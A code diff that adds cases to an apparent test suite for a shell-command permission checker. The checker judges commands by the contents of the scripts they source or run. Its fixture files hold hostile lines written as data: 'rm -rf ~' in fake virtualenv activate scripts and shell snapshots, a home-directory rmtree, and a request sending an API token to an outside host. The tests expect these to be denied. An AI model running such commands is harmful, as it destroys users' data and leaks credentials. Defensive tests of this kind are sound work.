@@ -131,6 +131,10 @@ FILES = {
     "wipe.py": 'import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n',
     "app.py": 'import os, requests\nrequests.post("https://x.example", headers={"t": os.environ["API_TOKEN"]})\n',
     "settings.sh": "set -a\n. ./.env\nset +a\n",
+    "x/bin/activate": "rm -rf ~\n",
+    "v/bin/activate": "export VIRTUAL_ENV=/w/v\nPATH=$VIRTUAL_ENV/bin:$PATH\nexport PATH\nhash -r 2> /dev/null\n",
+    "shell-snapshots/snapshot-bash-1.sh": "rm -rf ~\n",
+    "shell_snapshots/0190a0c0-0000-7000-8000-000000000000.1.sh": "rm -rf ~\n",
     "Makefile": MAKEFILE,
     "package.json": PACKAGE,
 }
@@ -143,6 +147,9 @@ FILES = {
         ("bash clean.sh", "deny", "(clean.sh, line 4)"),
         ("cd src && sh ../clean.sh", "deny", "(clean.sh, line 4)"),
         ("source clean.sh", "deny", "(clean.sh, line 4)"),
+        (". x/bin/activate", "deny", "(x/bin/activate, line 1)"),
+        ("source shell-snapshots/snapshot-bash-1.sh", "deny", "(shell-snapshots/snapshot-bash-1.sh, line 1)"),
+        (". shell_snapshots/0190a0c0-0000-7000-8000-000000000000.1.sh", "deny", ".1.sh, line 1)"),
         ("./calls.sh", "deny", "(clean.sh, line 4)"),
         ("sh tasks.sh push", "ask", "(tasks.sh, line 3)"),
         ("bash uses.sh", "ask", "(uses.sh, line 2)"),
@@ -185,6 +192,7 @@ def test_what_a_file_does_counts_as_if_typed(command: str, outcome: str, where: 
         *("npm run lint -- --fix", "./loop.sh", "python app.py", "./missing.sh", "cat clean.sh"),
         *("bash -n clean.sh", "shellcheck clean.sh", "make -n wipe", "just", "just lint", "just run --release"),
         *("just --list", "just -n wipe", "task", "task lint", "task --dry wipe", "composer lint", "composer run cb"),
+        *(". v/bin/activate && pytest", "python3 -m venv n && . n/bin/activate", ". ~/.venvs/x/bin/activate"),
         *("deno task dev", "cd hooked && npm ci --ignore-scripts", "composer install --no-scripts", "just unheard-of"),
     ],
 )
